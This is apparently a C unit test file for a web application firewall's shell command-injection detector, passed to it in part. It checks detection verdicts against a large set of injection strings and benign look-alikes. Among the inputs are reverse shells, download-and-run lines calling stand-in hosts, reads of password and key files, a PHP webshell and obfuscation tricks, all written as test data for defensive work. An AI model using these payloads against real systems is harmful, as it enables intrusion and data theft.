/* The shell detector (lw_shell.c, lw_shell_lex.c) with its default words
 * file: command injection class by class, the English and list values it
 * must leave alone, and inputs at the edges (empty, one byte, 8 KiB of
 * padding or operators, unterminated quotes and expansions, deep nesting). */
#include <stdlib.h>
#include "lw_test.h"
#include <apr_strings.h>
#include "lw_detect.h"

static lw_words_t *W;

static int det(const char *s, lw_detect_out_t *o)
{
    memset(o, 0, sizeof(*o));
    return lw_detect_shell(W, s, strlen(s), o);
}

/* STRONG, and the reason names the command (why contains want) */
static void strong(const char *s, const char *want, int line)
{
    lw_detect_out_t o;
    int v = det(s, &o);
    if (v == LW_DETECT_STRONG && (!want || strstr(o.why, want)) && o.off + o.len <= strlen(s))
        lw_t_pass++;
    else {
        lw_t_fail++;
        fprintf(stderr, "%s:%d: FAIL: want STRONG%s%s for \"%s\", got %d \"%s\"\n",
                __FILE__, line, want ? " with " : "", want ? want : "", s, v, o.why);
    }
}

static void verdict(const char *s, int want, int line)
{
    lw_detect_out_t o;
    int v = det(s, &o);
    if (v == want)
        lw_t_pass++;
    else {
        lw_t_fail++;
        fprintf(stderr, "%s:%d: FAIL: want %d for \"%s\", got %d \"%s\"\n",
                __FILE__, line, want, s, v, o.why);
    }
}

#define STRONG(s, why) strong(s, why, __LINE__)
#define WEAK(s) verdict(s, LW_DETECT_WEAK, __LINE__)
#define NONE(s) verdict(s, LW_DETECT_NONE, __LINE__)

static void separators(void)
{
    STRONG(";id", "sh:;id");
    STRONG("x|id|", "sh:|id");
    STRONG("a || whoami", "sh:||whoami");
    STRONG("a && uname -a", "sh:&&uname");
    STRONG("a & whoami", "&whoami");
    STRONG("a\nid", "sh:\\nid");
    STRONG("a\r\nid", "id");
    STRONG("a\\nid", "id");                 /* a literal \n typed in */
    STRONG("x;cd /;cd etc;base32 passwd|base32 -d", "sh:;cd");
    STRONG("; more /etc/passwd", "sh:;more");
    STRONG("; sleep 10", "sh:;sleep");
    STRONG("& ping -n 21 127.0.0.1 &", "ping");
    STRONG("x; ls -la /var/www", "sh:;ls");
    /* a command that is strong at the value's start is no weaker after a
     * separator, even with only a number after it */
    STRONG("Invoke-Expression 555(x)", "ps:invoke-expression");
    STRONG("x y\nInvoke-Expression 555(x)", "ps:\\ninvoke-expression");
    STRONG("/bin/sleep 5", "sleep");
    STRONG("x y\n/bin/sleep 5", "sleep");
    STRONG("ls 1(x", "sh:ls");                  /* ls is PowerShell's too */
    STRONG("x y\nls 1(x", "sh:\\nls");
}

static void substitutions(void)
{
    STRONG("abc`id`", "sh:`id");
    STRONG("$(whoami)", "sh:$(whoami");
    STRONG("x$(cat /etc/hostname)", "sh:$(cat");
    STRONG("a<(id)", "sh:$(id");
    STRONG("a>(sh)", "sh");
    STRONG("$((7*7))", "sh:$((");
    STRONG("$[3*3]", "sh:$[");
    STRONG("${PATH:0:1}etc", "sh:${var:");
    STRONG("${HOME#/}", "sh:${var#");
    STRONG("() { :; }; /bin/bash -c id", "sh:() {");
}

static void evasions(void)
{
    STRONG(";c''at /etc/passwd", "sh:;cat");
    STRONG(";c\"a\"t /etc/shadow", "sh:;cat");
    STRONG(";w\\ho\\am\\i", "sh:;whoami");
    STRONG(";who$@ami", "sh:;whoami");
    STRONG(";c$()at /etc/passwd", "sh:;cat");
    STRONG(";ca${x:0:0}t /etc/passwd", "cat");
    STRONG(";cat${IFS}/etc/passwd", NULL);
    STRONG("cat$IFS$9/etc/passwd", NULL);
    STRONG(";{cat,/etc/passwd}", "sh:;cat");
    STRONG("{cat,/etc/passwd}", "sh:{cat");
    STRONG(";cat /e*c/pa*d", "sh:;cat");
    STRONG("cat /e*c/sh*w", "sh:cat");
    STRONG(";/bi[n]/ba?h -c id", "id");
    STRONG(";/\?\?\?/\?\?t /etc/passwd", "sh:;");  /* cat, cut ... */
    STRONG(";more /[e]tc/pa[s]swd", "sh:;more");
    STRONG("a;$'\\x63'at /etc/passwd", "sh:;cat");
    STRONG(";a=c;b=at;$a$b /etc/passwd", "$var");
    STRONG(";alias z=id; z", "sh:alias");
    STRONG("& w^h^o^a^m^i", "whoami");
    STRONG(";ca\\t /et\\c/pa\\sswd", "sh:;cat");
    /* an escaped, quoted or emptily expanded name is never English: as
     * strong at the value's start as after a separator */
    STRONG("u^n^a^m^e", "uname");
    STRONG("who\"am\"i", "sh:whoami");
    NONE("\"id\" and \"name\"");
    STRONG("una$@me -a", "sh:uname");
    STRONG("hos${z}tname", "hostname");
    NONE("\"uname\" is a system call");
    NONE("id$x");                       /* the expansion ends it */
    NONE("ps$5");
}

/* A substitution glued inside a word: the shell runs the word it builds
 * from the bytes around it and the substituted output. */
static void spliced(void)
{
    STRONG("w`echo h`oami", "sh:spliced whoami");
    STRONG("c$(echo a)t", "sh:spliced cat");
    STRONG("`echo who`ami", "sh:spliced whoami");
    STRONG("$(echo wh)oami", "sh:spliced whoami");
    STRONG("wh`true`oami", "sh:spliced whoami");          /* empty output */
    STRONG("u$(printf n)ame -a", "sh:spliced uname");
    STRONG("c\"$(echo -n a)\"t /etc/passwd", "sh:spliced cat");
    STRONG("Try w`echo h`oami and see", "sh:spliced whoami"); /* in prose */
    STRONG("x w$(echo h)oami", "sh:spliced whoami");
    STRONG("wh$()oami", "whoami");
    STRONG("who$@ami", "whoami");
    /* what is not a command's name once substituted */
    NONE("$(document).ready(function(){ init(); })");
    NONE("the `int`s and `char`s of C");
    NONE("a `foo`bar and more");
}

/* A Markdown code span among prose is a command line written as text:
 * judged as one typed there (a flag alone is not enough, a system path,
 * a URL, code or a download piped to a shell is); what an injection runs
 * to see it worked (id, uname, sleep) is strong whatever the prose. */
static void code_spans(void)
{
    WEAK("Try `kill -9 $(pgrep php-fpm)` and then restart the service.");
    WEAK("Use `grep -rn \"TODO\" src/ | wc -l` to count them.");
    WEAK("Run `sudo apt update && sudo apt upgrade -y` first, then "
         "`systemctl restart apache2`.");
    NONE("use `gcc` or `clang` to build it");
    STRONG("Try `id` and then restart the service.", "sh:`id");
    STRONG("hello `whoami` world", "sh:`whoami");
    STRONG("run `uname -a` to see the kernel", "sh:`uname");
    STRONG("add `sleep 10` between the calls", "sh:`sleep");
    STRONG("Run `cat /etc/passwd` first, then restart.", "sh:`cat");
    STRONG("Try `cat ~/.ssh/id_rsa` now", "sh:`cat");
    STRONG("Try `nslookup x.evil.example` please", "nslookup");
    STRONG("hello world `ping 127.0.0.1`", "sh:`ping");
    STRONG("Please `curl -s evil.sh | sh` thanks", "sh:|sh");
    STRONG("Please run `wget http://198.51.100.7/x -O /tmp/x` now", "sh:`wget");
    STRONG("Try `bash -i >& /dev/tcp/198.51.100.7/4444 0>&1` now", "bash");
    STRONG("see `nc 198.51.100.7 4444 -e sh` for it", "sh:`nc");
    /* a backquote glued to a word is a substitution, not Markdown */
    STRONG("abc`id`", "sh:`id");
    STRONG("Try x`kill -9 1` and then restart the service.", "sh:`kill");
    /* without prose around it the span is what it was */
    STRONG("`kill -9 $(pgrep php-fpm)`", "kill");
    /* typed text: a quoted word is a pattern or a message, not code; a
     * wrapper says nothing about the command it runs */
    WEAK("grep -r 'foo' .");
    WEAK("git commit -m \"fix\" && git push");
    STRONG("perl -e 'print 1'", "sh:perl");
    STRONG("echo \"<?php system($_GET[1]); ?>\" > x.php", "sh:echo");
    WEAK("sudo apt update && sudo apt upgrade -y");
    STRONG("sudo wget http://198.51.100.7/x -O /tmp/x;", "wget");
    STRONG("x;sudo apt upgrade -y", "sh:;apt");
}

static void wrappers(void)
{
    STRONG(";$SHELL -c id", "sh:-c id");
    STRONG(";${SHELL} -c 'cat /etc/passwd'", "cat");
    STRONG(";env sh -c id", "id");
    STRONG("sh -c 'uname -a'", "sh:-c uname");
    STRONG("|xargs -I{} cat {}", "cat");
    STRONG(";sudo -u root id", "id");
    STRONG(";timeout 5 nc -lvp 4444", "nc");
    STRONG("bash -i >& /dev/tcp/10.0.0.2/4444 0>&1", "bash");
}

/* A command line typed alone, as a search box gets it: a question about
 * a command (flags and a number, quoted data, a cmdlet and words) is
 * text; a wrapper running a probe, or a WMI class listing the host, is
 * what an injection runs. */
static void typed_alone(void)
{
    STRONG("env id", "sh:id");
    STRONG("nohup whoami", "whoami");
    STRONG("timeout 10 uname", "uname");
    STRONG("env uname -a", "uname");
    NONE("env variables in docker compose");
    NONE("nohup vs screen vs tmux");
    WEAK("sudo apt-get install nginx");
    STRONG("sudo apt-get install -y http://203.0.113.5/x.deb", "apt-get");
    STRONG("iwmi win32_process", "iwmi");
    STRONG("gwmi Win32_UserAccount", "gwmi");
    STRONG("Get-CimInstance -ClassName Win32_Process", "get-ciminstance");
    STRONG("Get-Content C:\\Windows\\win.ini", "get-content");
    WEAK("Copy-Item Rental");
    WEAK("powershell Get-ChildItem recursive");
    WEAK("head -n 20 file.csv");
    WEAK("python -m http.server 8000");
    STRONG("nc -lvp 4444", "nc");
    STRONG("ping -c 10 localhost", "ping");         /* a probe's timing */
    STRONG("Stop-Process -Name MsMpEng -Force", "stop-process");
    STRONG("Get-Service | Where-Object {$_.Status -eq 'Running'}", "where-object");
    STRONG("python -c 'import os;os.system(\"id\")'", "python");
    WEAK("ssh-keygen -t ed25519 -C \"me@example.com\"");
    WEAK("ldapsearch -x -b \"dc=example,dc=com\" \"(uid=john)\"");
    WEAK("ldapsearch -x '(&(objectClass=user)(cn=a*))'");
    STRONG("perl -e \"(system(1))\"", "perl");
    STRONG("ldapsearch -x \"(uid=john)\";id", "id");
}

/* Binaries that ship with Windows and run or fetch code, after cmd's '&';
 * their abbreviations in text stay text. */
static void lolbins(void)
{
    STRONG("& msdt /id PCWDiagnostic /skip force", "msdt");
    STRONG("& diskshadow /s C:\\Users\\Public\\x.txt", "diskshadow");
    STRONG("& csi \\\\203.0.113.5\\share\\x.csx", "csi");
    STRONG(";rclone copy /etc/ remote:loot", "rclone");
    NONE("CSI & NCIS box set");
    NONE("Law & Order; CSI; Bones");
}

static void values_alone(void)
{
    STRONG("cat /etc/passwd", "sh:cat");
    STRONG("/bin/cat /etc/passwd", "cat");
    WEAK("/usr/bin/id");                     /* a setting could hold it */
    STRONG("/bin/ls -la", "ls");
    STRONG("x\n/usr/bin/id", "id");
    STRONG("wget http://198.51.100.7/a.sh -O- | sh", "wget");
    STRONG("nc -e /bin/sh 10.0.0.2 4444", "nc");
    STRONG("find / -name id_rsa", "find");
    STRONG("echo \"<?php system($_GET[0]); ?>\" > x.php", "echo");
    /* a command line typed from the value's start, as into a search box:
     * its separators continue it, each command judged as at the start */
    WEAK("ls -la | grep root");
    NONE("ps aux | grep nginx");
    NONE("apt-get update && apt-get upgrade");
    WEAK("kill -9 $(lsof -t -i:3000)");
    NONE("for i in $(seq 1 10)");
    WEAK("wget -O - url | bash");
    WEAK("crontab -e every 5 minutes");
    STRONG("ls -la; nc -e /bin/sh 10.0.0.1 4444", "nc");
    STRONG("ps aux; id", "sh:;id");
    STRONG("ls x && curl http://203.0.113.5/a | sh", "curl");
    /* not a command first, but a text filter after the pipe runs
     * nothing ("how to use ls -la | grep"); a file it reads, or a command
     * that is no filter, does */
    NONE("x y | grep root");
    NONE("how to use ls -la | grep");
    NONE("sort | uniq -c");
    WEAK("Get-Process | Sort-Object CPU");     /* the cmdlet alone */
    STRONG("x y | grep root /etc/shadow", "grep");
    STRONG("x y | grep root > /var/www/x.txt", "grep");
    STRONG("x y | tee /var/www/html/x.php", "tee");
    STRONG("x y | nc 10.0.0.1 4444", "nc");
    STRONG("127.0.0.1 | id", "id");
    /* a lone command continuing a typed line: only a probe or a shell */
    WEAK("cd ~ && ls");
    STRONG("cd /tmp && sh", "sh");
    STRONG("ls -la && whoami", "whoami");
    STRONG("x y\nWhere is x;`ed&quot;/usr/bin/id;", "sh:;id");  /* `ed` first */
    /* a URL's query: "&name=value" is a parameter, not an assignment */
    NONE("https://translate.google.com/?sl=auto&tl=de&text=git reset --hard HEAD~1&op=translate");
    NONE("https://example.net/index.php?graphql&query=query Product($handle: String!) { x }");
    NONE("https://translate.google.com/?text=php $_GET['id']&op=translate");
    /* a JSON string that starts with a command line (a search history in
     * a cookie) is typed text as well */
    NONE("[\"sh*t happens\", \"apt-get update && apt-get upgrade\"]");
    NONE("{\"q\": \"ls -la | grep root\"}");
    STRONG("[\"x\", \"ls && curl http://203.0.113.5/a | sh\"]", "curl");
    STRONG("\"; id; \"", "sh:;id");
    /* cmd.exe runs its arguments after /c or /k only; a quoted pattern is
     * no quoted code */
    WEAK("cmd dir /s");
    STRONG("& cmd /k dir", "dir");
    WEAK("find . -name '*.log' -delete");
    STRONG("find / -name '*.key'", "sh:find");
    /* a binary's directory written from the root without its '/' */
    STRONG(";usr/bin/id", "sh:;id");
    STRONG("a;bin/ls -la", "sh:;ls");
    NONE("docs/bin/cat.html");
    STRONG("; sysinfo", "sysinfo");
    /* PowerShell's own command line from the start (no -Command) and a
     * cmdlet with flags only: a search for the cmdlet */
    WEAK("powershell Get-ChildItem -Recurse");
    WEAK("Get-ChildItem -Recurse");
    STRONG("powershell -c Get-ChildItem -Recurse", "get-childitem");
    STRONG("& powershell Get-ChildItem -Recurse", "get-childitem");
    STRONG("Get-Content C:\\Windows\\win.ini", "ps:get-content");
    STRONG("powershell Invoke-WebRequest http://203.0.113.5/a", "invoke-webrequest");
    /* the whole value a command line of flags only: what people type into
     * a search box (uname -a, ls -la), weak */
    WEAK("uname -a");
    WEAK("netstat -an");
    WEAK("whoami /priv");
    WEAK("ls -la");
    WEAK("ls -la meaning");
    WEAK("uname -a output explained");
    WEAK("tar -xzvf");                       /* tar: also a word */
    NONE("how to use cat -n");
    NONE("whoami");                          /* a word, nothing around it */
    STRONG("whoami;", "sh:whoami;");
    STRONG("id|", "sh:id|");
    STRONG("uptime &&", "uptime");
    NONE("id;name");                         /* sort=id;name */
    NONE("more;");
    WEAK("Order; id 5");
    STRONG("; id root", "sh:;id");
    STRONG(";frobnicate /etc/shadow", "sh:;? /path");
    NONE("Mon; Tue /etc");
    NONE("The /etc/hosts file maps names");
    STRONG("x\\`id\\`", "sh:`id");
    NONE("cat videos");
    /* a sentence that starts with a command's name: function words where a
     * command line has flags, redirections or code; weak (never flagged
     * alone) only when it names a secret ([targets]) */
    NONE("move it to /var/www");
    NONE("cp the config to /etc/nginx");
    WEAK("ssh into the box with ~/.ssh/id_ed25519");     /* a key */
    NONE("/usr/bin/python or /usr/bin/python3");
    NONE("rsync from /home to D:\\backup");
    WEAK("cat the /etc/shadow file, what is it for?");
    NONE("cp the notes to ./docs");      /* a path, not a system one */
    STRONG("cp /etc/passwd /var/www/html/p.txt", "sh:cp");
    WEAK("cp -r the /etc /tmp/x");  /* typed alone, no secret named */
    STRONG("cat /etc/passwd > to", "sh:cat");
    STRONG("; cp the /etc/shadow to /tmp", "sh:;cp");
    STRONG("x && move the file to c:\\windows", "move");
}

static void windows_cmd(void)
{
    STRONG("& type C:\\Windows\\win.ini", "cmd:&type");
    STRONG("| dir c:\\users", "dir");
    STRONG("&& net user admin P@ss /add", "net");
    STRONG("& %COMSPEC% /c whoami", "whoami");
    STRONG("& cmd.exe /k dir", "dir");
    STRONG("& C:\\Windows\\System32\\cmd.exe /c ver", "ver");
    STRONG("& %SYSTEMROOT%\\system32\\whoami.exe", "whoami");
    STRONG("& echo %COMSPEC:~-16,1%", "cmd:%var:~");
    STRONG("& set x=who&& call %x%ami", "$var");
    STRONG("& FOR /F \"tokens=*\" %i IN ('whoami') DO echo %i", "cmd:for");
    STRONG("for /f %x in (list.txt) do type %x", "cmd:for");
    STRONG("& IF EXIST C:\\Windows\\win.ini type C:\\Windows\\win.ini", "type");
    STRONG("type %SYSTEMROOT%\\repair\\SAM", "type");
    STRONG("&& dir C:\\", "dir");
    STRONG("&& reg query HKLM\\Software", "reg");
    /* a command's own verb after a separator: net, sc, ip are words too */
    STRONG("x & net view", "cmd:&net");
    STRONG("1 | sc queryex", "sc");
    STRONG("a; ip route", "sh:;ip");
    STRONG("a; apt-get update", "apt-get");
    STRONG("a && docker ps", "docker");
    NONE("net view");                   /* alone: a phrase */
    NONE("npm install lodash");
    NONE("profit; net income");
    /* IF DEFINED names a variable */
    WEAK("| if defined TEMP echo x");
    STRONG("& if defined windir type %windir%\\win.ini", "type");
    /* numbers: kill -9, an operand naming a system file */
    STRONG("1; kill -9 1", "sh:;kill");
    STRONG("a; dd if=/etc/shadow", "sh:;dd");
    NONE("a; b=/etc/hosts");
    /* an address or a number, then a command: a ping form's field */
    STRONG("192.0.2.1;hostname", "sh:;hostname");
    STRONG("7|w", "sh:|w");
    STRONG("::1 && history", "history");
    STRONG("x y\n7|w", "sh:|w");       /* first on a line, not only the value's */
    NONE("a 1|w");
    /* a lookup of a command that is no English word */
    STRONG("x; which ncat", "sh:;which");
    STRONG("a | type whoami", "type");
    NONE("sales; which one");
    NONE("fonts; type serif");
    NONE("2; more to come");
    NONE("18 & over");
    NONE("5;Uptime");
    /* PowerShell runs its arguments; sh reads a script, cmd starts a shell */
    STRONG("pwsh systeminfo", "systeminfo");
    STRONG("powershell Get-LocalUser", "get-localuser");
    NONE("bash hostname");
    NONE("cmd prompt basics");
    NONE("powershell tutorial for beginners");
}

static void powershell(void)
{
    /* a name spelled in code points, escaped with backquotes, found by a
     * pattern; Windows paths and variables that name cmd.exe */
    STRONG("powershell [char]105+[char]100", "ps:[char]+");
    STRONG("powershell.exe -e SQBFAFgAIAAoAGkAdwByACkA", "ps:powershell.exe");
    STRONG(";iex ([char]119+[char]104+[char]111)", "ps:");
    STRONG("&([char]105 + [char]101 + [char]120)", "ps:[char]+");
    NONE("[char]65 in powershell");
    STRONG(";I`nvoke-Ex`pression whoami", "ps:;invoke-expression");
    STRONG(";I`E`X (whoami)", "ps:;iex");
    STRONG("&I`EX(\"whoami\")", "iex");
    STRONG("abc`id`", "sh:`id");            /* sh's substitution still */
    STRONG("&(gcm i*x) whoami", "ps:&gcm");
    STRONG("&(gcm *ke-e*) whoami", "gcm");
    STRONG("&(Get-Command i?x) id", "get-command");
    NONE("what does gcm do in powershell");
    STRONG("&C:\\Windows\\System32\\cmd.exe /c whoami", "whoami");
    STRONG("&%COMSPEC% /c whoami", "whoami");
    STRONG("&%SystemRoot%\\system32\\cmd.exe /c ver", "ver");
    STRONG("&echo %PATH:~0,1%", "cmd:%var:~");
    STRONG(";$env:ComSpec", "ps:$env:");
    NONE("Where is %SystemRoot% on Windows 10?");
    STRONG("& powershell -enc SQBFAFgAIAAoAGkAdwByACkA", "powershell");
    STRONG("powershell -EncodedCommand JABjAGwAaQBlAG4AdAA=", "powershell");
    STRONG("& powershell.exe -nop -w hidden -c \"iex(iwr http://x.example/a)\"", "iex");
    STRONG(";iwr http://evil.example/a -OutFile a.exe", "ps:;iwr");
    STRONG("IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')", "ps:");
    STRONG("Invoke-WebRequest -Uri http://x.example/a.exe -OutFile a.exe", "invoke-webrequest");
    STRONG("& iwmi -Class Win32_Process -Name Create", "iwmi");
    STRONG("& gwmi win32_operatingsystem", "gwmi");
    STRONG("[System.Convert]::FromBase64String('aWQ=')", "ps:[type]::");
    STRONG("$env:COMSPEC", "ps:$env:");
}

static void sinks(void)
{
    STRONG("system('id')", "sh:sink(id");
    STRONG("passthru('cat /etc/passwd')", "cat");
    STRONG("<?php system(\"sleep 10\");?>", "sleep");
    STRONG("<!--#exec cmd=\"/bin/cat /etc/passwd\"-->", "cat");
    STRONG("<!--#EXEC cmd=\"id\" -->", "id");
}

/* A value that starts with a list operator or a line break, then a
 * command: even one that is an English word, alone or with a word or two
 * (no text starts so); a table of words does. */
static void leading_separator(void)
{
    STRONG(";env", "sh:;env");
    STRONG("; who", "sh:;who");
    STRONG(";w", "sh:;w");
    STRONG(";last", "sh:;last");
    STRONG(";history", "sh:;history");
    STRONG(";hostname", "hostname");
    STRONG(";set", ";set");
    STRONG("|hostname", "|hostname");
    STRONG("&& env", "sh:&&env");
    STRONG("|| set", "||set");
    STRONG("\nenv", "sh:\\nenv");
    STRONG("\r\nset", "set");
    STRONG(";last root", "sh:;last");
    STRONG(";host example.com", "sh:;host");
    STRONG(";xterm -display 10.0.0.1:1", "sh:;xterm");
    STRONG(";xhost +", "sh:;xhost");
    STRONG(";read", "sh:;read");
    STRONG("|ver", "ver");
    NONE("read more");
    /* the start of a line is the start of a value: after a line break,
     * or an empty line */
    STRONG("x y\n;env", "sh:;env");
    STRONG("x y\n\nenv", "env");
    STRONG("x y\n\renv", "env");
    STRONG("x y\r\n\r\nset", "set");
    NONE("x y\r\nlast week we met");
    STRONG(";xdotool type id", "sh:;xdotool");
    STRONG("&psexec64 -s cmd", "psexec64");
    NONE(";)");
    NONE(";-)");
    NONE("; last but not least");           /* a sentence's words */
    NONE("; set the table");
    NONE("\nlast week we met");
    NONE("& more");                         /* left of "Books & more" */
    NONE("&more");
    NONE("; Last");                         /* no Unix host runs Last */
    WEAK("| date | amount |");              /* a Markdown table */
    WEAK("|date|time|");
    NONE("Home | History | Contact");
    NONE("apple;date;fig");
    NONE("a;env");                          /* a list after a word */
}

/* bash reruns a command from its history (!!, !-1, !$) or with a quick
 * substitution (^old^new); $0 is the shell itself, <<< a here-string, '.'
 * runs a file. */
static void rerun_and_builtins(void)
{
    STRONG(";!-1", "sh:;!history");
    STRONG(";!!", "sh:;!history");
    STRONG("|!!", "sh:|!history");
    STRONG("&&!-2", "!history");
    STRONG(";!$", "!history");
    STRONG(";!#", "!history");
    STRONG("!-1", "sh:!history");
    STRONG("!$", "sh:!history");
    STRONG("!-2:p", "sh:!history");
    STRONG("!!:s/a/b/", "sh:!history");
    WEAK("!!");                             /* also an exclamation */
    WEAK("!5");
    STRONG("^ls^id", "sh:^old^new");
    STRONG(";^cat^id", "sh:;^old^new");
    NONE("^_^");
    NONE("^o^");
    NONE("^_^;");
    NONE("!important");
    NONE("!!!");
    NONE("Wow!!");
    NONE("!d12car3ad1ra");
    NONE("!-1 is not a number here");
    STRONG(";$0", "sh:;$shell");
    STRONG("$0 -c id", "sh:-c id");
    STRONG("$0<<<id", "shell");
    NONE("$0");                             /* a price */
    NONE("$0 down payment");
    STRONG("cat<<<x", "sh:cat");
    STRONG("bash<<<id", "sh:bash");
    NONE("<<< Previous");
    NONE("Read more <<< back");
    STRONG(". /tmp/x.sh", "sh:.");
    STRONG(";. /tmp/x", "sh:;.");
    STRONG("&& . ./x", "sh:&&.");
    NONE(". /");
    NONE("Mr. /Mrs.");
    STRONG(";exec id", "id");
    STRONG(";eval $x", "eval");
    STRONG(";timeout 3 cat /etc/passwd", "cat");
    STRONG(";busybox nc 10.0.0.1 4444 -e sh", "nc");
}

/* A binary run by a relative path: a file next to the application (./x,
 * ./x.sh), or a system binary reached by traversal (../../bin/sh). */
static void relative_paths(void)
{
    STRONG(";./x", "sh:;./x");
    STRONG("|./exploit", "sh:|./x");
    STRONG("&&./run.sh", "./x");
    STRONG("`./x`", "./x");
    STRONG("$(./x)", "./x");
    STRONG(";../../bin/sh", "sh:;sh");
    STRONG(";../../../usr/bin/id", "sh:;id");
    WEAK("../../bin/sh");                   /* a path; the lfi rules' */
    NONE("./images/logo.png");
    NONE("see ./docs");
    NONE("./lib;./vendor");                 /* a list of paths */
    NONE("a;./index.html");                 /* a page, not a program */
}

static void benign(void)
{
    static const char *const ok[] = {
        "cats & dogs", "Tom & Jerry", "R&D; more info", "rock|paper|scissors",
        "a;b;c", "for i in range", "if exist", "call me at (555) 123-4567",
        "$5.00", "100% cotton", ":-) see you ;-)", "file_name (1).pdf",
        "https://example.com/index.jsp;jsessionid=A1B2C3D4", "red,green,blue",
        "\"Smith, John\",42,\"New York\"", "Fish & Chips", "Copy & Paste",
        "Find & Replace", "Save & Exit", "Time & Date", "sales; marketing; support",
        "see more (and less)", "what time is it; where are we", "cat; dog; bird",
        "ping me later", "sleep 8 hours", "head & shoulders shampoo",
        "Apple (AAPL) | Microsoft (MSFT)", "x^2 + y^2 = z^2", "f(x) = 2x + 1",
        "1/2 cup sugar; 3/4 cup flour", "TCP/IP networking", "O'Brien & Sons",
        "he said \"hello\" & left", "{name}", "${price}", "%USERNAME% is a variable",
        "C:\\Users\\Public\\Documents\\resume.pdf", "~/Documents", "../index.html",
        "What is /bin/bash?", "how to cat a file in linux", "do you want more?",
        "Do it; then rest", "(see above)", "a > b", "Home | About | Contact",
        "Home > Products > Shoes", "$HOME", "%PATH%", "^_^", "line1\\nline2",
        "C:\\new folder\\test", "Get-Well soon", "Start-Up Nation",
        "Net income & expenses", "start; stop; pause", "Type A; Type B",
        "print | save | share", "make; model; year", "H&M", "Ben & Jerry's",
        "Read more | Less", "order=date;dir=asc", "name=John&age=30",
        "/shuttle/missions/sts-71/sts-71-patch.jpg", "/cgi-bin/imagemap/countdown?97,170",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    };
    size_t i;
    for (i = 0; i < sizeof(ok) / sizeof(ok[0]); i++)
        verdict(ok[i], LW_DETECT_NONE, __LINE__);
    WEAK("name|id|email");              /* a list of words, one a command */
    /* Markdown code spans among prose, capitalised Unix-only names (no Unix
     * host runs Uptime), HTML tags (not redirections) */
    NONE("`date` and `time` fields");
    WEAK("use `grep` and `sed` for text");
    STRONG("`uptime`", "sh:`uptime");
    STRONG("x`uptime`", "sh:`uptime");
    NONE("Server Stats | Uptime");      /* no arguments: a list of titles */
    NONE("Status; Uptime; Load");
    WEAK("Stats; Uname -a");            /* macOS would run it */
    STRONG("x|uptime", "sh:|uptime");
    STRONG("& WHOAMI", "whoami");       /* Windows: case does not matter */
    NONE("<ul><li>one</li><li>two</li></ul>");
    /* an editor's rich text: a tag with attributes starts each line */
    NONE("<!-- wp:list -->\n<ul class=\"wp-block-list\"><li>one</li></ul>");
    NONE("x\n<figure class=\"a b\"><img src=\"https://x.example/a.jpg\" "
         "alt=\"House\" class=\"wp-image-6\"/></figure>\n<details open>");
    NONE("x\n<a href=/shop/?orderby=price>Shop</a>");
    /* ... but an attribute that expands, or a separator after the tag,
     * is read as shell */
    STRONG("x\n<ul class=$(id)>", "sh:$(id");
    STRONG("x\n<a b=\"`id`\">", "sh:`id");
    STRONG("<ul class=x>;id", "sh:;id");
    STRONG("cat</etc/passwd", "sh:cat");
    /* a line of rich text that starts with markup: the command in it is
     * typed there (as at the value's start); a lone command, a system
     * path or a URL stay strong */
    NONE("<!-- wp:code -->\n<pre class=\"wp-block-code\"><code>sudo systemctl "
         "restart php8.2-fpm</code></pre>\n<!-- /wp:code -->");
    NONE("x\n<p>echo is not working, it prints $HOME literally</p>");
    WEAK("x\n<pre><code>ls -la /var/www/html | grep wp-config</code></pre>");
    STRONG("x\n<b>id", "sh:\\nid");
    STRONG("x\n<b>ls -la</b>\n;id", "sh:;id");
    STRONG("x\n<code>cat /etc/passwd</code>", "sh:\\ncat");
    STRONG("x\n<b>wget http://198.51.100.7/x.sh</b>", "wget");
}

static void edges(apr_pool_t *p)
{
    lw_detect_out_t o;
    static const char *const odd[] = {
        "", ";", "|", "&", "`", "$", "$(", "${", "$((", "$[", "%", "'", "\"",
        "\\", "^", "{", "}", "(", ")", "<", ">", "<(", "${IFS", "$'\\x",
        "c'at /etc/passwd", ";${PATH:0:", "%COMSPEC:~", "$((1+", "\\n",
        "for /f %i in (", "if exist", "& FOR /F %i IN (x) DO",
    };
    size_t i, n = 8192;
    char *buf = apr_palloc(p, n + 1);
    const char *fill = ";|&`$(){}<>'\"\\^%/*?[]!#=,. \n\ta";

    for (i = 0; i < sizeof(odd) / sizeof(odd[0]); i++) {
        int v = det(odd[i], &o);
        CHECK(v >= LW_DETECT_NONE && v <= LW_DETECT_STRONG);
        CHECK(o.off + o.len <= strlen(odd[i]));
    }
    /* not NUL-terminated: the detector must stop at len */
    memcpy(buf, ";id", 3);
    CHECK(lw_detect_shell(W, buf, 1, &o) == LW_DETECT_NONE);
    CHECK(lw_detect_shell(W, buf, 3, &o) == LW_DETECT_STRONG);

    /* 8 KiB of padding, then the attack: still found */
    memset(buf, 'a', n);
    memcpy(buf + n - 10, ";cat /etc", 9);
    buf[n] = '\0';
    CHECK(lw_detect_shell(W, buf, n, &o) == LW_DETECT_STRONG && o.off >= n - 10);
    memset(buf, ' ', n);
    memcpy(buf + n - 4, ";id", 3);
    CHECK(lw_detect_shell(W, buf, n - 1, &o) == LW_DETECT_STRONG);

    /* 8 KiB of every odd byte in turn, of one operator, of nesting */
    for (i = 0; i < n; i++)
        buf[i] = fill[i % strlen(fill)];
    CHECK(lw_detect_shell(W, buf, n, &o) <= LW_DETECT_STRONG);
    for (i = 0; fill[i]; i++) {
        memset(buf, fill[i], n);
        CHECK(lw_detect_shell(W, buf, n, &o) <= LW_DETECT_STRONG);
    }
    for (i = 0; i + 2 <= n; i += 2)
        memcpy(buf + i, "$(", 2);
    CHECK(lw_detect_shell(W, buf, n, &o) <= LW_DETECT_STRONG);
    for (i = 0; i + 3 <= n; i += 3)
        memcpy(buf + i, "${a", 3);
    CHECK(lw_detect_shell(W, buf, n - n % 3, &o) <= LW_DETECT_STRONG);
    for (i = 0; i + 4 <= n; i += 4)
        memcpy(buf + i, "/?[/", 4);
    CHECK(lw_detect_shell(W, buf, n, &o) <= LW_DETECT_STRONG);
    /* a benign word list as long as the inspection length */
    for (i = 0; i + 8 <= n; i += 8)
        memcpy(buf + i, "cat dog;", 8);
    CHECK(lw_detect_shell(W, buf, n, &o) == LW_DETECT_NONE);
}

static void words_file(apr_pool_t *p)
{
    lw_words_t *w2;
    char *err = NULL;
    int i;
    /* every section the detector declares is used by the default file */
    for (i = 0; i < lw_shell_nsections; i++)
